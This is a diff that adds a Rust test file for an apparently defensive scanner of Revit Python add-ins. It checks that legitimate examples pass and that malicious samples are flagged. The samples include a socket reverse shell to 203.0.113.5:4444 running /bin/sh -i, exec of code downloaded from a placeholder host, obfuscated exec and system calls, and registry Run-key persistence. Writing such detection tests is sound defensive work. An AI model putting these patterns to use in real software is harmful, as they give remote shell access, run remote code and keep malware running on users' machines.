@@ -1,0 +1,95 @@
+//! The shared examples are legitimate add-ins: none may be blocked, and the
+//! Revit API check finds exactly one thing, `ElementId.IntegerValue` in
+//! parameter-sync (deprecated in 2024, inside its 2022 to 2025 range).
+
+use std::path::{Path, PathBuf};
+
+use revitpy_scan::report::{CompatLevel, RiskLevel};
+use revitpy_scan::{Entry, ManifestFacts, scan};
+
+fn examples() -> PathBuf {
+    PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared/examples"))
+}
+
+fn files(dir: &Path, root: &Path, out: &mut Vec<(String, Vec<u8>)>) {
+    for e in std::fs::read_dir(dir).unwrap().flatten() {
+        let p = e.path();
+        if p.is_dir() {
+            files(&p, root, out);
+        } else {
+            let rel = p.strip_prefix(root).unwrap().to_string_lossy().replace('\\', "/");
+            out.push((rel, std::fs::read(&p).unwrap()));
+        }
+    }
+}
+
+fn scan_example(name: &str) -> revitpy_scan::report::ScanReport {
+    let dir = examples().join(name);
+    let loaded = revitpy_rpyx::source::load_from_dir(&dir).unwrap();
+    let m = loaded.manifest.unwrap();
+    let facts = ManifestFacts {
+        name: m.name.normalized().to_owned(),
+        min_revit: m.revit_compatibility.range.min().map(|y| y.get()),
+        max_revit: m.revit_compatibility.range.max().map(|y| y.get()),
+        revit_dependencies: m.revit_dependencies.clone(),
+        declared_impact: m.performance_impact.to_string(),
+        hooks: m.install_hooks.values().chain(m.uninstall_hooks.values()).cloned().collect(),
+    };
+    let mut all = Vec::new();
+    files(&dir, &dir, &mut all);
+    let entries: Vec<Entry<'_>> = all.iter().map(|(p, b)| Entry { path: p, bytes: b }).collect();
+    scan(&facts, &entries)
+}
+
+#[test]
+fn no_example_is_blocked_and_only_integer_value_is_reported() {
+    let mut compat = Vec::new();
+    for name in
+        ["wall-tools", "revitpy-utils", "room-exporter", "sheet-publisher", "parameter-sync", "family-template-kit"]
+    {
+        let report = scan_example(name);
+        assert!(report.risk_level < RiskLevel::High, "{name} blocked: {:#?}", report.findings);
+        for c in report.compatibility {
+            compat.push((name, c.member, c.level, c.revit_version));
+        }
+    }
+    assert_eq!(
+        compat,
+        [("parameter-sync", "ElementId.IntegerValue".to_owned(), CompatLevel::Warning, "2024".to_owned())]
+    );
+}
+
+#[test]
+fn transparency_report_shows_what_the_examples_do() {
+    let sheet = scan_example("sheet-publisher");
+    assert!(!sheet.capabilities.processes.is_empty(), "the subprocess call is reported: {:?}", sheet.capabilities);
+    let rooms = scan_example("room-exporter");
+    assert!(!rooms.capabilities.paths_written.is_empty(), "the export is reported: {:?}", rooms.capabilities);
+}
+
+#[test]
+fn malicious_patterns_are_blocked() {
+    let cases: &[(&str, &str)] = &[
+        ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "exec-decoded"),
+        ("import urllib.request as u\nexec(u.urlopen('http://x.example.invalid/p').read())\n", "exec-downloaded"),
+        ("from os import system as s\nimport codecs\ns(codecs.decode('rpub', 'rot13'))\n", "process-hostile"),
+        (
+            "import socket, subprocess\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\nsubprocess.call(['/bin/sh', '-i'])\n",
+            "reverse-shell",
+        ),
+        (
+            "import winreg\nk = winreg.CreateKey(winreg.HKEY_CURRENT_USER, 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run')\nwinreg.SetValueEx(k, 'x', 0, 1, 'c:\\\\x.exe')\n",
+            "persistence-registry",
+        ),
+        ("import os\ngetattr(os, 'sys' + 'tem')(''.join(map(chr, [108, 115])))\n", "process-hostile"),
+        ("print 'py2'\nexec ''.join(reversed('1)(tnirp'))\n", "exec-decoded"),
+    ];
+    for (src, rule) in cases {
+        let entries = [Entry { path: "evil.py", bytes: src.as_bytes() }];
+        let report = scan(&ManifestFacts { name: "evil".into(), ..ManifestFacts::default() }, &entries);
+        assert!(report.risk_level >= RiskLevel::High, "{rule}: {src}\n{:#?}", report.findings);
+        assert!(report.findings.iter().any(|f| f.rule == *rule), "{rule} missing: {:#?}", report.findings);
+    }
+    let pyc = [Entry { path: "hidden.pyc", bytes: b"\x00\x01" }];
+    assert!(scan(&ManifestFacts::default(), &pyc).risk_level >= RiskLevel::High);
+}
